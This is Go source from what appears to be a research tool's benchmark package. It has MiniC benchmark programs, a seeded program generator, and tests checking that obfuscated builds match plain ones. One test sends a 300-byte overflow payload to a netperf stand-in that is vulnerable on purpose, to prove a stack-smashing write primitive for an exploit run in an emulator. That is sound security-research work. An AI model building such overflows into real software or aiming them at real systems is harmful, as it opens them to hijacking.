		{Name: "429.mcf", Description: "Bellman-Ford relaxation on a synthetic network", Source: srcMcfSim},
		{Name: "445.gobmk", Description: "Go board liberties and capture evaluation", Source: srcGobmkSim},
		{Name: "456.hmmer", Description: "profile-HMM Viterbi sequence scoring", Source: srcHmmerSim},
	}
}

// byNameIndex maps the full hand-written corpus by name, built once — ByName
// sits on per-cell hot paths (CLIs, the streaming runner) that perform
// hundreds of lookups.
var byNameIndex = sync.OnceValue(func() map[string]Program {
	idx := make(map[string]Program)
	for _, p := range All() {
		idx[p.Name] = p
	}
	return idx
})

// ByName finds a program in the full corpus.
func ByName(name string) (Program, bool) {
	p, ok := byNameIndex()[name]
	return p, ok
}

// All returns every program including netperf-sim.
func All() []Program {
	out := append(Benchmarks(), Spec()...)
	return append(out, Netperf())
}

const srcBubbleSort = `
int data[40];

void fill(int seed) {
    int i;
    int x = seed;
    for (i = 0; i < 40; i++) {
        x = (x * 1103515245 + 12345) % 2147483648;
        data[i] = x % 1000;
    }
}

int main() {
    int i;
    int j;
    fill(42);
    for (i = 0; i < 40; i++) {
        for (j = 0; j + 1 < 40 - i; j++) {
            if (data[j] > data[j + 1]) {
                int t = data[j];
                data[j] = data[j + 1];
                data[j + 1] = t;
            }
        }
    }
    int sum = 0;
    for (i = 0; i < 40; i++) sum = sum * 3 + data[i];
    print_int(sum);
    print_char('\n');
    for (i = 1; i < 40; i++) {
        if (data[i - 1] > data[i]) { print_str("UNSORTED\n"); return 1; }
    }
    print_str("sorted\n");
    return 0;
}
`

const srcInsertSort = `
int arr[48];

int main() {
    int i;
    int x = 7;
    for (i = 0; i < 48; i++) {
        x = (x * 75 + 74) % 65537;
        arr[i] = x;
    }
    for (i = 1; i < 48; i++) {
        int key = arr[i];
        int j = i - 1;
        while (j >= 0 && arr[j] > key) {
            arr[j + 1] = arr[j];
            j--;
        }
        arr[j + 1] = key;
    }
    int acc = 0;
    for (i = 0; i < 48; i++) acc = acc ^ (arr[i] + i);
    print_int(acc);
    print_char('\n');
    return 0;
}
`

const srcMatrixMult = `
int a[64];
int b[64];
int c[64];

int main() {
    int i;
    int j;
    int k;
    for (i = 0; i < 64; i++) {
        a[i] = (i * 7 + 3) % 23;
        b[i] = (i * 11 + 5) % 19;
    }
    for (i = 0; i < 8; i++) {
        for (j = 0; j < 8; j++) {
            int s = 0;
            for (k = 0; k < 8; k++) {
                s += a[i * 8 + k] * b[k * 8 + j];
            }
            c[i * 8 + j] = s;
        }
    }
    int tr = 0;
    for (i = 0; i < 8; i++) tr += c[i * 8 + i];
    print_int(tr);
    print_char('\n');
    print_int(c[7 * 8 + 3]);
    print_char('\n');
    return 0;
}
`

const srcCRC = `
char msg[] = "the quick brown fox jumps over the lazy dog";

int crc_byte(int crc, int byte) {
    int i;
    crc = crc ^ byte;
    for (i = 0; i < 8; i++) {
        int low = crc & 1;
        crc = (crc >> 1) & 0x7FFFFFFFFFFFFFF;
        if (low) crc = crc ^ 0xEDB88320;
    }
    return crc;
}

int main() {
    int crc = 0xFFFFFFFF;
    int i = 0;
    while (msg[i]) {
        crc = crc_byte(crc, msg[i]);
        i++;
    }
    print_int(crc);
    print_char('\n');
    return 0;
}
`

const srcStreamCipher = `
char state[256];
char plain[] = "attack at dawn";
char work[32];

int main() {
    int i;
    int j = 0;
    for (i = 0; i < 256; i++) state[i] = i;
    for (i = 0; i < 256; i++) {
        j = (j + state[i] + i * 31) % 256;
        char t = state[i];
        state[i] = state[j];
        state[j] = t;
    }
    int n = 0;
    while (plain[n]) n++;
    // Encrypt.
    int si = 0;
    int sj = 0;
    for (i = 0; i < n; i++) {
        si = (si + 1) % 256;
        sj = (sj + state[si]) % 256;
        char t = state[si];
        state[si] = state[sj];
        state[sj] = t;
        work[i] = plain[i] ^ state[(state[si] + state[sj]) % 256];
    }
    int acc = 0;
    for (i = 0; i < n; i++) acc = acc * 131 + work[i];
    print_int(acc);
    print_char('\n');
    return 0;
}
`

const srcFibonacci = `
int fib_rec(int n) {
    if (n < 2) return n;
    return fib_rec(n - 1) + fib_rec(n - 2);
}

int main() {
    int a = 0;
    int b = 1;
    int i;
    for (i = 0; i < 40; i++) {
        int t = a + b;
        a = b;
        b = t;
    }
    print_int(a);
    print_char(' ');
    print_int(fib_rec(17));
    print_char('\n');
    return 0;
}
`

const srcPrimes = `
char sieve[1000];

int main() {
    int i;
    int j;
    int count = 0;
    int last = 0;
    for (i = 2; i < 1000; i++) {
        if (!sieve[i]) {
            count++;
            last = i;
            for (j = i + i; j < 1000; j += i) sieve[j] = 1;
        }
    }
    print_int(count);
    print_char(' ');
    print_int(last);
    print_char('\n');
    return 0;
}
`

const srcQueens = `
int cols[12];

int safe(int row, int col) {
    int r;
    for (r = 0; r < row; r++) {
        if (cols[r] == col) return 0;
        if (cols[r] - col == row - r) return 0;
        if (col - cols[r] == row - r) return 0;
    }
    return 1;
}

int solve(int row, int n) {
    if (row == n) return 1;
    int count = 0;
    int c;
    for (c = 0; c < n; c++) {
        if (safe(row, c)) {
            cols[row] = c;
            count += solve(row + 1, n);
        }
    }
    return count;
}

int main() {
    print_int(solve(0, 6)); // 4
    print_char('\n');
    return 0;
}
`

const srcHanoi = `
int moves = 0;
int check = 0;

void hanoi(int n, int from, int to, int via) {
    if (n == 0) return;
    hanoi(n - 1, from, via, to);
    moves++;
    check = check * 31 + from * 3 + to;
    hanoi(n - 1, via, to, from);
}

int main() {
    hanoi(9, 0, 2, 1);
    print_int(moves); // 511
    print_char(' ');
    print_int(check);
    print_char('\n');
    return 0;
}
`

const srcStrSearch = `
char hay[] = "binary gadget chains hide in obfuscated binaries everywhere";
char needles[] = "gadget|chains|missing|binaries|obf";

int match_at(char *h, char *n, int nl) {
    int i;
    for (i = 0; i < nl; i++) {
        if (h[i] == 0) return 0;
        if (h[i] != n[i]) return 0;
    }
    return 1;
}

int find(char *h, char *n, int nl) {
    int i = 0;
    while (h[i]) {
        if (match_at(&h[i], n, nl)) return i;
        i++;
    }
    return 0 - 1;
}

int main() {
    int start = 0;
    int i = 0;
    int total = 0;
    while (1) {
        if (needles[i] == '|' || needles[i] == 0) {
            int nl = i - start;
            int pos = find(hay, &needles[start], nl);
            print_int(pos);
            print_char(' ');
            total += pos;
            if (needles[i] == 0) break;
            start = i + 1;
        }
        i++;
    }
    print_int(total);
    print_char('\n');
    return 0;
}
`

const srcBitops = `
int popcount(int x) {
    int n = 0;
    while (x) {
        n++;
        x = x & (x - 1);
    }
    return n;
}

int reverse_bits(int x, int width) {
    int out = 0;
    int i;
    for (i = 0; i < width; i++) {
        out = (out << 1) | (x & 1);
        x = (x >> 1) & 0x7FFFFFFFFFFFFFFF;
    }
    return out;
}

int main() {
    int acc = 0;
    int i;
    for (i = 1; i < 120; i++) {
        acc += popcount(i * 2654435761);
        acc = acc ^ reverse_bits(i, 16);
    }
    print_int(acc);
    print_char('\n');
    return 0;
}
`

const srcTEA = `
int key0 = 0x11223344;
int key1 = 0x55667788;
int key2 = 0x99AABBCC;
int key3 = 0xDDEEFF00;

int mask32(int x) { return x & 0xFFFFFFFF; }

int main() {
    int v0 = 0x01234567;
    int v1 = 0x89ABCDEF;
    int sum = 0;
    int delta = 0x9E3779B9;
    int i;
    for (i = 0; i < 32; i++) {
        sum = mask32(sum + delta);
        v0 = mask32(v0 + (mask32(v1 << 4) + key0 ^ v1 + sum ^ ((v1 >> 5) & 0x7FFFFFF) + key1));
        v1 = mask32(v1 + (mask32(v0 << 4) + key2 ^ v0 + sum ^ ((v0 >> 5) & 0x7FFFFFF) + key3));
    }
    print_int(v0);
    print_char(' ');
    print_int(v1);
    print_char('\n');
    return 0;
}
`
