package benchprog

// The seeded MiniC program generator: the corpus scale-out substrate. The
// hand-written suite (12 Banescu-style + 4 SPEC-style + netperf) is what the
// paper evaluated; gadget-set effects only become statistically credible
// across hundreds of binaries, so Generate produces arbitrarily many
// benchmark programs, deterministic per (seed, size class).
//
// Design constraints, in priority order:
//
//  1. Determinism: the same (seed, class) always yields byte-identical
//     source (a private splitmix64 stream, no map iteration, no math/rand —
//     whose sequence is not pinned across Go releases).
//  2. Total safety: every generated program terminates with a stable
//     integer checksum under EVERY obfuscation configuration. Loops have
//     constant trip counts, the call graph is acyclic (functions only call
//     lower-numbered functions), array indices are masked with
//     power-of-two-minus-one constants (non-negative for any signed
//     operand), and division/modulo never appear — so there is no UB-like
//     behavior for an obfuscation pass to perturb.
//  3. Analysis-relevant mix: arithmetic/bitwise expressions, data-dependent
//     branches, counted loops (nestable), global array reads and writes,
//     and cross-function calls — the statement shapes whose obfuscated
//     forms (dispatchers, opaque predicates, virtualized handlers) carry
//     the paper's attack-surface story.
//
// Program shape: a few global int arrays, Funcs helper functions f0..fN-1
// in an acyclic call DAG, and a main that fills the arrays, folds every
// helper into a checksum, and prints it. The checksum is the program's
// ground-truth output; obfuscated builds must reproduce it exactly.

import (
	"fmt"
	"strings"

	"github.com/nofreelunch/gadget-planner/internal/codegen"
	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// SizeClass parameterizes generated-program shape. All fields are part of
// the deterministic generation key: two programs generated with the same
// seed but different classes share nothing.
type SizeClass struct {
	Name string
	// Funcs is how many helper functions the program defines (call-graph
	// depth is bounded by this: fK may only call fJ, J < K).
	Funcs int
	// Globals is how many global int arrays the program declares.
	Globals int
	// ArrayLen is each array's length; must be a power of two so index
	// expressions can be masked in-bounds with `& (ArrayLen-1)`.
	ArrayLen int
	// Stmts is how many statements each function body grows.
	Stmts int
	// MaxDepth bounds if/for nesting inside a function body.
	MaxDepth int
	// ExprDepth bounds generated expression trees.
	ExprDepth int
	// Calls is how many lower-numbered functions each function folds into
	// its result (capped by its index, keeping total dynamic call counts
	// Fibonacci-bounded rather than exponential).
	Calls int
}

// SizeClasses returns the generator's standard classes, smallest first.
func SizeClasses() []SizeClass {
	return []SizeClass{
		{Name: "small", Funcs: 3, Globals: 2, ArrayLen: 16, Stmts: 5, MaxDepth: 1, ExprDepth: 2, Calls: 1},
		{Name: "medium", Funcs: 5, Globals: 3, ArrayLen: 32, Stmts: 7, MaxDepth: 2, ExprDepth: 3, Calls: 2},
		{Name: "large", Funcs: 8, Globals: 4, ArrayLen: 64, Stmts: 9, MaxDepth: 2, ExprDepth: 4, Calls: 2},
	}
}

// SizeClassByName finds a standard class.
func SizeClassByName(name string) (SizeClass, bool) {
	for _, c := range SizeClasses() {
		if c.Name == name {
			return c, true
		}
	}
	return SizeClass{}, false
}

// genRand is a splitmix64 stream: tiny, uniform, and — unlike math/rand —
// guaranteed stable across Go releases, which the byte-identity contract
// depends on.
type genRand struct{ state uint64 }

func (r *genRand) next() uint64 {
	r.state += 0x9E3779B97F4A7C15
	z := r.state
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}

func (r *genRand) intn(n int) int { return int(r.next() % uint64(n)) }

func (r *genRand) pick(ss []string) string { return ss[r.intn(len(ss))] }

// genSeed folds the program seed and the class identity into the stream
// seed, so every class parameter change re-randomizes everything.
func genSeed(seed int64, c SizeClass) uint64 {
	h := uint64(seed) * 0x9E3779B97F4A7C15
	for _, b := range []byte(c.Name) {
		h = (h ^ uint64(b)) * 0x100000001B3
	}
	for _, v := range []int{c.Funcs, c.Globals, c.ArrayLen, c.Stmts, c.MaxDepth, c.ExprDepth, c.Calls} {
		h = (h ^ uint64(v)) * 0x100000001B3
	}
	return h
}

// gen carries generation state for one program.
type gen struct {
	r     *genRand
	c     SizeClass
	mask  int // ArrayLen - 1
	scope []string
	temps int
}

// Generate produces one deterministic program for (seed, class). The same
// arguments always return byte-identical source; distinct seeds differ.
// Generated programs are named "gen-<class>-s<seed>".
func Generate(seed int64, c SizeClass) Program {
	g := &gen{r: &genRand{state: genSeed(seed, c)}, c: c, mask: c.ArrayLen - 1}
	var sb strings.Builder

	for i := 0; i < c.Globals; i++ {
		fmt.Fprintf(&sb, "int g%d[%d];\n", i, c.ArrayLen)
	}
	sb.WriteByte('\n')
	for fi := 0; fi < c.Funcs; fi++ {
		g.emitFunc(&sb, fi)
	}
	g.emitMain(&sb)

	return Program{
		Name:        fmt.Sprintf("gen-%s-s%d", c.Name, seed),
		Description: fmt.Sprintf("generated %s-class program (seed %d)", c.Name, seed),
		Source:      sb.String(),
	}
}

// emitFunc writes one helper function: loop-variable and temp declarations,
// folded calls into lower-numbered functions, Stmts random statements, and
// a checksum return.
func (g *gen) emitFunc(sb *strings.Builder, fi int) {
	fmt.Fprintf(sb, "int f%d(int a, int b) {\n", fi)
	for i := 0; i <= g.c.MaxDepth; i++ {
		fmt.Fprintf(sb, "    int i%d = 0;\n", i)
	}
	g.scope = []string{"a", "b"}
	g.temps = 2
	fmt.Fprintf(sb, "    int t0 = %s;\n", g.expr(g.c.ExprDepth))
	fmt.Fprintf(sb, "    int t1 = %s;\n", g.expr(g.c.ExprDepth))
	g.scope = append(g.scope, "t0", "t1")

	// Calls fold lower-numbered functions in; the DAG keeps termination
	// trivially provable and the per-function cap keeps the dynamic call
	// count Fibonacci-bounded in Funcs.
	calls := g.c.Calls
	if calls > fi {
		calls = fi
	}
	for ci := 0; ci < calls; ci++ {
		callee := g.r.intn(fi)
		fmt.Fprintf(sb, "    t%d = (t%d ^ f%d(%s, %s));\n",
			ci%2, ci%2, callee, g.expr(1), g.expr(1))
	}

	for si := 0; si < g.c.Stmts; si++ {
		g.stmt(sb, 1, 0)
	}
	fmt.Fprintf(sb, "    return (t0 ^ (t1 * %d));\n}\n\n", 3+2*g.r.intn(30))
}

// emitMain writes main: array fills, one call per helper folded into the
// checksum, and the printed result that is the program's ground truth.
func (g *gen) emitMain(sb *strings.Builder) {
	sb.WriteString("int main() {\n    int i0 = 0;\n")
	fmt.Fprintf(sb, "    int acc = %d;\n", 1+g.r.intn(1000))
	fmt.Fprintf(sb, "    for (i0 = 0; i0 < %d; i0++) {\n", g.c.ArrayLen)
	for gi := 0; gi < g.c.Globals; gi++ {
		fmt.Fprintf(sb, "        g%d[i0] = ((i0 * %d) ^ %d);\n",
			gi, 3+2*g.r.intn(60), g.r.intn(512))
	}
	sb.WriteString("    }\n")
	for fi := 0; fi < g.c.Funcs; fi++ {
		fmt.Fprintf(sb, "    acc = ((acc * 31) + f%d(%d, acc));\n", fi, g.r.intn(64))
	}
	sb.WriteString("    print_int(acc);\n    print_char('\\n');\n    return 0;\n}\n")
}

// stmt writes one random statement at the given nesting depth with the
// given indent level (indent 0 = function body).
func (g *gen) stmt(sb *strings.Builder, depth, indent int) {
	pad := strings.Repeat("    ", indent+1)
	kind := g.r.intn(6)
	// At max nesting depth, degrade structured statements to flat ones.
	if depth > g.c.MaxDepth && kind >= 4 {
		kind = g.r.intn(4)
	}
	switch kind {
	case 0: // assign an existing temp
		fmt.Fprintf(sb, "%s%s = %s;\n", pad, g.pickVar(), g.expr(g.c.ExprDepth))
	case 1: // declare a fresh temp
		name := fmt.Sprintf("t%d", g.temps)
		g.temps++
		fmt.Fprintf(sb, "%sint %s = %s;\n", pad, name, g.expr(g.c.ExprDepth))
		g.scope = append(g.scope, name)
	case 2, 3: // global array store, masked in-bounds
		fmt.Fprintf(sb, "%sg%d[%s] = %s;\n", pad,
			g.r.intn(g.c.Globals), g.index(), g.expr(g.c.ExprDepth))
	case 4: // data-dependent branch
		fmt.Fprintf(sb, "%sif (%s) {\n", pad, g.cond())
		g.block(sb, depth, indent, 1)
		if g.r.intn(2) == 0 {
			fmt.Fprintf(sb, "%s} else {\n", pad)
			g.block(sb, depth, indent, 1)
		}
		fmt.Fprintf(sb, "%s}\n", pad)
	case 5: // counted loop with a constant trip count
		iv := fmt.Sprintf("i%d", depth)
		trip := 4 + g.r.intn(7)
		fmt.Fprintf(sb, "%sfor (%s = 0; %s < %d; %s++) {\n", pad, iv, iv, trip, iv)
		g.scope = append(g.scope, iv)
		g.block(sb, depth, indent, 1+g.r.intn(2))
		g.scope = g.scope[:len(g.scope)-1]
		fmt.Fprintf(sb, "%s}\n", pad)
	}
}

// block writes n nested statements and restores the enclosing scope:
// temps declared inside a MiniC block die with it, so the generator must
// not reference them afterwards.
func (g *gen) block(sb *strings.Builder, depth, indent, n int) {
	save := len(g.scope)
	for i := 0; i < n; i++ {
		g.stmt(sb, depth+1, indent+1)
	}
	g.scope = g.scope[:save]
}

// pickVar returns a mutable in-scope temp or parameter.
func (g *gen) pickVar() string {
	// Loop variables at the end of scope are excluded: assigning them could
	// break a loop's constant trip count.
	mutable := make([]string, 0, len(g.scope))
	for _, v := range g.scope {
		if !strings.HasPrefix(v, "i") {
			mutable = append(mutable, v)
		}
	}
	return g.r.pick(mutable)
}

// index renders an in-bounds array index: any int expression masked with
// ArrayLen-1, which is non-negative for every signed operand.
func (g *gen) index() string {
	return fmt.Sprintf("(%s & %d)", g.expr(1), g.mask)
}

// cond renders a comparison for branch statements.
func (g *gen) cond() string {
	op := g.r.pick([]string{"<", ">", "<=", ">=", "==", "!="})
	return fmt.Sprintf("(%s %s %s)", g.expr(g.c.ExprDepth-1), op, g.expr(g.c.ExprDepth-1))
}

// expr renders a random expression tree. Every binary node is fully
// parenthesized, so generated programs never depend on parser precedence.
// Operators are total: +, -, *, and bitwise ops wrap deterministically;
// shifts use small constant amounts; division and modulo never appear.
func (g *gen) expr(depth int) string {
	if depth <= 0 || g.r.intn(4) == 0 {
		return g.atom()
	}
	switch g.r.intn(8) {
	case 0, 1, 2, 3, 4:
		op := g.r.pick([]string{"+", "-", "*", "^", "&", "|"})
		return fmt.Sprintf("(%s %s %s)", g.expr(depth-1), op, g.expr(depth-1))
	case 5:
		return fmt.Sprintf("(%s << %d)", g.expr(depth-1), 1+g.r.intn(3))
	case 6:
		// Arithmetic right shift of a possibly-negative value is well
		// defined in the emulator (sign fill) and deterministic.
		return fmt.Sprintf("(%s >> %d)", g.expr(depth-1), 1+g.r.intn(3))
	default:
		return fmt.Sprintf("g%d[%s]", g.r.intn(g.c.Globals), g.index())
	}
}

// atom renders a leaf: an in-scope variable or a constant.
func (g *gen) atom() string {
	if g.r.intn(3) == 0 {
		return fmt.Sprintf("%d", g.r.intn(256))
	}
	return g.r.pick(g.scope)
}

// GeneratedCorpus returns n generated programs seeded from baseSeed,
// cycling size classes small-heavy (small, small, small, medium, medium,
// large), matching how real corpora skew toward small translation units.
// The corpus is deterministic in (baseSeed, n) and programs never collide:
// program i uses seed baseSeed+i.
func GeneratedCorpus(baseSeed int64, n int) []Program {
	classes := SizeClasses()
	mix := []int{0, 0, 0, 1, 1, 2} // indexes into classes
	out := make([]Program, 0, n)
	for i := 0; i < n; i++ {
		out = append(out, Generate(baseSeed+int64(i), classes[mix[i%len(mix)]]))
	}
	return out
}

// ValidateGenerated builds and runs p under every obfuscation arm — plain,
// each individual pass, and both composite configurations — and checks all
// of them reproduce the plain build's output exactly. It is how the
// generator's safety contract (every program runs to a stable checksum
// under all passes) is enforced in tests and spot-checked by callers.
func ValidateGenerated(p Program, obfSeed int64) error {
	const maxSteps = 80_000_000
	plain, err := Build(p, nil, obfSeed)
	if err != nil {
		return fmt.Errorf("benchprog: %s: plain build: %w", p.Name, err)
	}
	ref, err := runCapped(plain, p, maxSteps)
	if err != nil {
		return fmt.Errorf("benchprog: %s: plain run: %w", p.Name, err)
	}
	if ref == "" {
		return fmt.Errorf("benchprog: %s: plain build produced no output", p.Name)
	}

	arms := make(map[string][]obfuscate.Pass)
	var order []string
	for _, name := range obfuscate.AllPassNames() {
		pass, err := obfuscate.ByName(name)
		if err != nil {
			return err
		}
		arms[name] = []obfuscate.Pass{pass}
		order = append(order, name)
	}
	arms["llvm-obf"] = obfuscate.LLVMObf()
	arms["tigress"] = obfuscate.Tigress()
	order = append(order, "llvm-obf", "tigress")

	for _, name := range order {
		bin, err := Build(p, arms[name], obfSeed)
		if err != nil {
			return fmt.Errorf("benchprog: %s: %s build: %w", p.Name, name, err)
		}
		out, err := runCapped(bin, p, maxSteps)
		if err != nil {
			return fmt.Errorf("benchprog: %s: %s run: %w", p.Name, name, err)
		}
		if out != ref {
			return fmt.Errorf("benchprog: %s: %s output %q != plain %q", p.Name, name, out, ref)
		}
	}
	return nil
}

// RunOutput executes a build with a step bound and returns its stdout.
// Generated programs terminate well under the validation cap; the bound
// protects callers from a miscompiled arm spinning forever.
func RunOutput(bin *sbf.Binary, p Program, maxSteps uint64) (string, error) {
	return runCapped(bin, p, maxSteps)
}

// runCapped executes a build with a step bound and returns its stdout.
func runCapped(bin *sbf.Binary, p Program, maxSteps uint64) (string, error) {
	res, err := codegen.Run(bin, p.Stdin, maxSteps)
	if err != nil {
		return "", err
	}
	return res.Stdout, nil
}
