package benchprog

import (
	"strings"
	"testing"

	"github.com/nofreelunch/gadget-planner/internal/obfuscate"
)

// TestAllProgramsRunPlain compiles and executes every benchmark without
// obfuscation and sanity-checks the output.
func TestAllProgramsRunPlain(t *testing.T) {
	for _, p := range All() {
		p := p
		t.Run(p.Name, func(t *testing.T) {
			bin, err := Build(p, nil, 0)
			if err != nil {
				t.Fatalf("build: %v", err)
			}
			if p.Name == "netperf" {
				p.Stdin = NetperfRequest([]byte("host,port"))
			}
			res, err := Run(bin, p)
			if err != nil {
				t.Fatalf("run: %v", err)
			}
			if res.Stdout == "" {
				t.Error("no output")
			}
			t.Logf("%s: %q exit=%d steps=%d text=%dB", p.Name,
				truncate(res.Stdout, 60), res.ExitCode, res.Steps, bin.CodeSize())
			if strings.Contains(res.Stdout, "UNSORTED") || strings.Contains(res.Stdout, "CORRUPT") {
				t.Errorf("self-check failed: %q", res.Stdout)
			}
		})
	}
}

func truncate(s string, n int) string {
	if len(s) > n {
		return s[:n] + "..."
	}
	return s
}

// TestKnownOutputs pins outputs with externally verifiable values.
func TestKnownOutputs(t *testing.T) {
	want := map[string]string{
		"queens": "4\n",       // 6-queens solutions
		"primes": "168 997\n", // primes below 1000, largest prime
	}
	for name, expect := range want {
		p, ok := ByName(name)
		if !ok {
			t.Fatalf("program %s missing", name)
		}
		bin, err := Build(p, nil, 0)
		if err != nil {
			t.Fatal(err)
		}
		res, err := Run(bin, p)
		if err != nil {
			t.Fatal(err)
		}
		if res.Stdout != expect {
			t.Errorf("%s output = %q, want %q", name, res.Stdout, expect)
		}
	}
	// fibonacci: fib(40) iterative = 102334155, fib_rec(17) = 1597.
	p, _ := ByName("fibonacci")
	bin, err := Build(p, nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	res, err := Run(bin, p)
	if err != nil {
		t.Fatal(err)
	}
	if res.Stdout != "102334155 1597\n" {
		t.Errorf("fibonacci output = %q", res.Stdout)
	}
}

// TestObfuscatedMatchPlain builds every program under both presets and
// checks behavioural equivalence — the corpus-wide obfuscator validation.
func TestObfuscatedMatchPlain(t *testing.T) {
	if testing.Short() {
		t.Skip("long differential test")
	}
	presets := map[string][]obfuscate.Pass{
		"llvm-obf": obfuscate.LLVMObf(),
		"tigress":  obfuscate.Tigress(),
	}
	for _, p := range All() {
		p := p
		if p.Name == "netperf" {
			p.Stdin = NetperfRequest([]byte("host,port"))
		}
		plainBin, err := Build(p, nil, 0)
		if err != nil {
			t.Fatalf("%s: %v", p.Name, err)
		}
		plain, err := Run(plainBin, p)
		if err != nil {
			t.Fatalf("%s: %v", p.Name, err)
		}
		for preset, passes := range presets {
			t.Run(p.Name+"/"+preset, func(t *testing.T) {
				bin, err := Build(p, passes, 42)
				if err != nil {
					t.Fatalf("build: %v", err)
				}
				res, err := Run(bin, p)
				if err != nil {
					t.Fatalf("run: %v", err)
				}
				if res.Stdout != plain.Stdout || res.ExitCode != plain.ExitCode {
					t.Errorf("behaviour mismatch:\nplain %q exit %d\nobf   %q exit %d",
						plain.Stdout, plain.ExitCode, res.Stdout, res.ExitCode)
				}
				if bin.CodeSize() <= plainBin.CodeSize() {
					t.Errorf("obfuscation did not grow code: %d vs %d",
						bin.CodeSize(), plainBin.CodeSize())
				}
			})
		}
	}
}

// TestNetperfOverflowSmashesStack demonstrates the vulnerability: a long
// option payload must corrupt the return address (crash on a controlled
// address), proving the write primitive the exploit uses.
func TestNetperfOverflowSmashesStack(t *testing.T) {
	p := Netperf()
	bin, err := Build(p, nil, 0)
	if err != nil {
		t.Fatal(err)
	}
	// Benign input works.
	p.Stdin = NetperfRequest([]byte("localhost,9000"))
	res, err := Run(bin, p)
	if err != nil || !strings.Contains(res.Stdout, "option handled") {
		t.Fatalf("benign run failed: %v %q", err, res)
	}
	// Overflow: fill far past the 32-byte buffers with a recognizable
	// pattern; execution must divert to 0x4242424242424242-ish memory.
	payload := make([]byte, 300)
	for i := range payload {
		payload[i] = 0x42
	}
	p.Stdin = NetperfRequest(payload)
	_, err = Run(bin, p)
	if err == nil {
		t.Fatal("overflow did not crash")
	}
	if !strings.Contains(err.Error(), "fault") && !strings.Contains(err.Error(), "decode") {
		t.Fatalf("unexpected failure mode: %v", err)
	}
	t.Logf("controlled crash: %v", err)
}

func TestByNameLookup(t *testing.T) {
	if _, ok := ByName("queens"); !ok {
		t.Error("queens missing")
	}
	if _, ok := ByName("nonexistent"); ok {
		t.Error("found nonexistent program")
	}
	if len(Benchmarks()) != 12 {
		t.Errorf("benchmark count = %d, want 12", len(Benchmarks()))
	}
	if len(Spec()) != 4 {
		t.Errorf("spec count = %d, want 4", len(Spec()))
	}
}
