package benchprog

import (
	"strings"
	"testing"
)

// TestGenerateDeterministic pins the generator's core contract: the same
// (seed, class) yields byte-identical source, distinct seeds and classes
// yield distinct programs, and corpus generation is a pure function of
// (baseSeed, n).
func TestGenerateDeterministic(t *testing.T) {
	seen := map[string]string{}
	for seed := int64(0); seed < 8; seed++ {
		for _, c := range SizeClasses() {
			a := Generate(seed, c)
			b := Generate(seed, c)
			if a.Source != b.Source {
				t.Fatalf("%s: same (seed=%d, class=%s) generated different source", a.Name, seed, c.Name)
			}
			if a.Name != b.Name {
				t.Fatalf("name mismatch: %s vs %s", a.Name, b.Name)
			}
			if prev, ok := seen[a.Source]; ok {
				t.Errorf("%s collides with %s: identical source", a.Name, prev)
			}
			seen[a.Source] = a.Name
		}
	}

	c1 := GeneratedCorpus(100, 12)
	c2 := GeneratedCorpus(100, 12)
	if len(c1) != 12 {
		t.Fatalf("corpus size = %d", len(c1))
	}
	for i := range c1 {
		if c1[i].Source != c2[i].Source || c1[i].Name != c2[i].Name {
			t.Errorf("corpus program %d differs between identical calls", i)
		}
	}
	// A shifted base seed must shift every program.
	c3 := GeneratedCorpus(101, 12)
	if c1[0].Source == c3[0].Source {
		t.Error("different base seeds generated identical programs")
	}
}

// TestGenerateShape sanity-checks the generated mix: every class produces
// programs with its declared number of functions and globals, and the
// statement mix includes branches, loops, and array stores somewhere in a
// small seed range.
func TestGenerateShape(t *testing.T) {
	for _, c := range SizeClasses() {
		var sawIf, sawFor, sawStore bool
		for seed := int64(0); seed < 6; seed++ {
			p := Generate(seed, c)
			for fi := 0; fi < c.Funcs; fi++ {
				if !strings.Contains(p.Source, "int f"+itoa(fi)+"(int a, int b)") {
					t.Errorf("%s: missing f%d", p.Name, fi)
				}
			}
			for gi := 0; gi < c.Globals; gi++ {
				if !strings.Contains(p.Source, "int g"+itoa(gi)+"[") {
					t.Errorf("%s: missing g%d", p.Name, gi)
				}
			}
			sawIf = sawIf || strings.Contains(p.Source, "if (")
			sawFor = sawFor || strings.Contains(p.Source, "for (i1")
			sawStore = sawStore || strings.Contains(p.Source, "] = ")
		}
		if !sawIf || !sawFor || !sawStore {
			t.Errorf("class %s: mix missing if=%v for=%v store=%v", c.Name, sawIf, sawFor, sawStore)
		}
	}
}

func itoa(n int) string { return string(rune('0' + n)) }

// TestGeneratedValidateSample enforces the safety contract on a sample:
// generated programs build and run to the plain build's exact output under
// every individual pass and both composite configurations. The full-corpus
// sweep lives in the streaming benchmark; this keeps the unit suite fast.
func TestGeneratedValidateSample(t *testing.T) {
	if testing.Short() {
		t.Skip("obfuscated builds are slow")
	}
	for _, c := range SizeClasses() {
		p := Generate(7, c)
		if err := ValidateGenerated(p, 42); err != nil {
			t.Error(err)
		}
	}
}

// TestByNameIndexed pins the indexed ByName against the corpus: every
// program resolves to itself, unknown names miss, and generated programs
// (not part of the hand-written corpus) do not alias corpus names.
func TestByNameIndexed(t *testing.T) {
	for _, p := range All() {
		got, ok := ByName(p.Name)
		if !ok || got.Name != p.Name || got.Source != p.Source {
			t.Errorf("ByName(%q) mismatch", p.Name)
		}
	}
	if _, ok := ByName("no-such-program"); ok {
		t.Error("ByName invented a program")
	}
	if _, ok := ByName(Generate(1, SizeClasses()[0]).Name); ok {
		t.Error("generated program aliases the hand-written corpus")
	}
}
