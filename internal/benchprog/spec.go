package benchprog

// SPEC-CPU-style stand-in sources (see DESIGN.md substitution table): each
// mirrors the computational flavour of the original benchmark at a scale the
// emulator runs in milliseconds.

// srcBzip2Sim: run-length encoding + move-to-front transform and a
// round-trip integrity check (the compression-kernel flavour of 401.bzip2).
const srcBzip2Sim = `
char input[60];
char rle[160];
char mtf[160];
char table[128];
char decoded[160];
char restored[60];

int gen_input() {
    int i;
    int x = 12345;
    for (i = 0; i < 60; i++) {
        x = (x * 1103515245 + 12345) % 2147483648;
        // Skewed distribution with runs.
        int v = x % 100;
        if (v < 60) input[i] = 'a' + v % 4;
        else input[i] = 'a' + v % 26;
    }
    return 60;
}

// Run-length encode: pairs (count, byte). Returns output length.
int rle_encode(char *src, int n, char *dst) {
    int i = 0;
    int o = 0;
    while (i < n) {
        int run = 1;
        while (i + run < n && src[i + run] == src[i] && run < 255) run++;
        dst[o] = run;
        dst[o + 1] = src[i];
        o += 2;
        i += run;
    }
    return o;
}

